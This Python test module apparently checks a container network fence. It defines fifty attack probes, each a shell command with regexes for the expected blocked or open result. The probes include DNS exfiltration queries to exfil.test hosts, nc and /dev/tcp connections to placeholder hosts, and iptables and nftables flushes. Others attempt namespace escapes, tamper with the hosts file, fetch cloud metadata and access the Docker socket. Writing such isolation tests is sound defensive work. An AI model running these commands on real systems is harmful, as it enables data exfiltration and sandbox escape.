"""The fifty attacks: commands for a container behind the fence, and what each must come to.

`{…}` are places: other, other6, vendor, host, lan, sibling, port. Patterns are searched in what the command prints.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Probe:
    """One attack.

    Attributes:
        fenced: What it must come to behind the fence.
        open: What it comes to without one, where that shows that the attack works; "" where it cannot be shown.
        gate: What it must come to in `sni`, where that differs.
    """

    number: int
    title: str
    command: str
    fenced: str
    open: str = ""
    gate: str = ""


REFUSED = r"^rc=7$"
NO_ANSWER = r"no servers could be reached|connection refused|not permitted"
NOT_PERMITTED = r"(?i)not permitted|permission denied|must be root"

PROBES = (
    Probe(1, "the vendor answers", "curl -s -m9 --cacert /ca.pem https://api.vendor.test/", r"host=api\.vendor\.test"),
    Probe(2, "TLS elsewhere", "curl -sk -m5 https://{other}/; echo rc=$?", REFUSED, "^rc=0$"),
    Probe(3, "plain HTTP elsewhere", "curl -s -m5 http://{other}/; echo rc=$?", REFUSED, "^rc=0$"),
    Probe(4, "another port of the vendor", "curl -s -m5 http://{vendor}/; echo rc=$?", REFUSED, "^rc=0$"),
    Probe(5, "UDP elsewhere", "cat /tmp/sockets | grep udp_other", "EPERM", "CONNECTED"),
    Probe(6, "QUIC to the vendor", "cat /tmp/sockets | grep udp_pinned", "EPERM", "CONNECTED"),
    Probe(7, "ping elsewhere", "ping -c1 -W2 {other}; echo rc=$?", "^rc=[12]$", "^rc=0$"),
    Probe(8, "TLS elsewhere over IPv6", "curl -skg -m5 'https://[{other6}]/'; echo rc=$?", REFUSED),
    Probe(9, "a name by the system's resolver", "getent ahosts secret.exfil.test; echo rc=$?", "^rc=2$"),
    Probe(10, "a public resolver", "dig +time=1 +tries=1 @192.0.2.8 secret.exfil.test", NO_ANSWER),
    Probe(
        11,
        "a resolver of the attacker's",
        "dig +time=1 +tries=1 +ignore @{other} s.exfil.test; echo s.exfil | nc -u -w1 {other} 53",
        NO_ANSWER,
        "s.exfil|Warning|HEADER",
    ),
    Probe(12, "the engine's resolver", "dig +time=1 +tries=1 @127.0.0.11 via11.exfil.test", NO_ANSWER),
    Probe(13, "the engine's resolver by TCP", "dig +tcp +time=1 +tries=1 @127.0.0.11 via11.exfil.test", NO_ANSWER),
    Probe(
        14,
        "another name at the vendor's address",
        "curl -s -m5 --cacert /ca.pem --connect-to other.test:443:api.vendor.test:443 https://other.test/; echo rc=$?",
        # What pins alone leave open: a front shared by others. The README says so, and `sni` closes it.
        r"host=other\.test",
        gate="^rc=(35|52|56)$",
    ),
    Probe(15, "flushing the rules", "iptables -F; iptables-legacy -F; ip6tables -F; echo rc=$?", "^rc=[1-9]"),
    Probe(16, "flushing nftables", "nft flush ruleset; echo rc=$?", "^rc=1$"),
    Probe(17, "a new network namespace", "unshare -n true; echo rc=$?", "^rc=1$"),
    Probe(18, "a new user namespace", "unshare -Urn true; echo rc=$?", "^rc=1$"),
    Probe(19, "another process's namespace", "nsenter -t 1 -n true; echo rc=$?", "^rc=1$"),
    Probe(20, "routes", "ip route add {other}/32 dev eth0; ip route del default; echo rc=$?", "^rc=2$"),
    Probe(
        21,
        "links and addresses",
        "ip link set eth0 down || ip link add d0 type dummy || ip addr add 10.9.9.9/24 dev eth0; echo rc=$?",
        "^rc=2$",
    ),
    Probe(
        22,
        "a tunnel",
        "mkdir -p /dev/net; mknod /dev/net/tun c 10 200; ip tuntap add dev t0 mode tun; echo rc=$?",
        "^rc=1$",
    ),
    Probe(
        23,
        "kernel settings",
        "mount -t proc p /mnt || mount -o remount,rw /proc/sys || echo 1 >/proc/sys/net/ipv4/ip_forward || echo closed",
        "^closed$",
    ),
    Probe(
        24,
        "the fence's process",
        "ps axo args | grep -c '[s]tart.py'; strace -p 1 -o /dev/null & sleep .2; kill $!; ls -d /proc/[0-9]* | wc -l",
        r"^0$",
    ),
    Probe(
        25,
        "the hosts file",
        "cp /etc/hosts /tmp/h; echo '{other} evil.test' >> /etc/hosts; curl -sk -m5 https://evil.test/; echo rc=$?;"
        " cat /tmp/h > /etc/hosts",
        "^rc=[67]$",
        "^rc=0$",
    ),
    Probe(26, "sockets of every kind", "cat /tmp/sockets", "^af_packet EPERM$", "^af_packet MADE$"),
    Probe(
        27, "the host by the gateway", "curl -s -m5 http://{gateway}:{port}/; echo rc=$?", REFUSED, "the host itself"
    ),
    Probe(
        28, "the host by its other address", "curl -s -m5 http://{host}:{port}/; echo rc=$?", REFUSED, "the host itself"
    ),
    Probe(29, "the host by name", "curl -s -m5 http://host.docker.internal:{port}/; echo rc=$?", "^rc=6$"),
    Probe(30, "a neighbour", "curl -s -m5 http://{sibling}:8080/; echo rc=$?", REFUSED, "^rc=0$"),
    Probe(31, "ping to a neighbour", "ping -c1 -W1 {sibling}; echo rc=$?", "^rc=[12]$", "^rc=0$"),
    Probe(32, "cloud metadata", "curl -s -m5 http://169.254.169.254/latest/meta-data/; echo rc=$?", REFUSED),
    Probe(33, "all nodes on the link", "ping -6 -c1 -W1 ff02::1%eth0; echo rc=$?", "^rc=[12]$"),
    Probe(
        34,
        "broadcast and multicast",
        "cat /tmp/sockets | grep cast",
        "^broadcast EPERM\nmulticast EPERM$",
        "^broadcast SENT\nmulticast SENT$",
    ),
    Probe(
        35,
        "the engine's socket",
        "ls /run/docker.sock /var/run/docker.sock /run/containerd;"
        " curl -s -m2 --unix-socket /var/run/docker.sock http://x/version; echo rc=$?",
        "^rc=7$",
    ),
    Probe(36, "abstract sockets of the namespace", "grep -c @ /proc/net/unix; true", "^0$"),
    Probe(
        37,
        "a server of its own",
        "python3 -m http.server 9099 >/dev/null 2>&1 & own=$(hostname -i | tr ' ' '\\n' | grep -m1 '[.]');"
        " for k in $(seq 50); do sleep .1; curl -s -o /dev/null http://127.0.0.1:9099/ && break; done;"
        " for a in 127.0.0.1 $own; do curl -s -o /dev/null -w '%{{http_code}} ' http://$a:9099/; done; kill $!",
        "^200 200",
        "^200 200",
    ),
    Probe(38, "ping to itself", "ping -c1 -W1 127.0.0.1; echo rc=$?", "^rc=0$", "^rc=0$"),
    Probe(39, "pip as it comes", "timeout 30 pip install -q --target /tmp/t six==1.16.0; echo rc=$?", "^rc=1$"),
    Probe(40, "pip", "time timeout 30 pip install -q --target /tmp/t --retries 0 six==1.16.0; echo rc=$?", "^rc=1$"),
    Probe(41, "npm as it comes", "cd /tmp; timeout 4 npm install left-pad; echo rc=$?", "^rc=(1|124)$"),
    Probe(42, "npm", "cd /tmp; timeout 30 npm install --fetch-retries 0 left-pad; echo rc=$?", "^rc=1$"),
    Probe(43, "apt-get", "apt-get -o Acquire::Retries=0 -o APT::Update::Error-Mode=any update; echo rc=$?", "^rc=100$"),
    Probe(44, "git", "timeout 30 git clone https://code.test/x/y /tmp/y; echo rc=$?", "^rc=128$"),
    Probe(45, "another port elsewhere", "nc -w3 -z {other} 22; echo rc=$?", "^rc=1$", "^rc=0$"),
    Probe(46, "the shell's own connection", "bash -c 'exec 3<>/dev/tcp/{other}/443'; echo rc=$?", "^rc=1$", "^rc=0$"),
    Probe(
        47,
        "capabilities by a file",
        "cp $(readlink -f /usr/bin/python3) /tmp/py; setcap cap_net_admin,cap_net_raw+ep /tmp/py;"
        " /tmp/py -c 'import socket; socket.socket(17, 3, 3)'; echo rc=$?",
        "^rc=(1|126)$",
    ),
    Probe(
        48,
        "programs and modules in the kernel",
        "cat /tmp/sockets | grep bpf; modprobe dummy; echo rc=$?",
        "^bpf EPERM\n(.*\n)*rc=1$",
    ),
    Probe(49, "forgetting tracked connections", "cat /tmp/sockets | grep conntrack", "EPERM"),
    Probe(
        50,
        "another source address",
        "curl -sk -m3 --interface 127.0.0.1 https://{other}/; echo rc=$?",
        "^rc=(7|28|45)$",
    ),
)
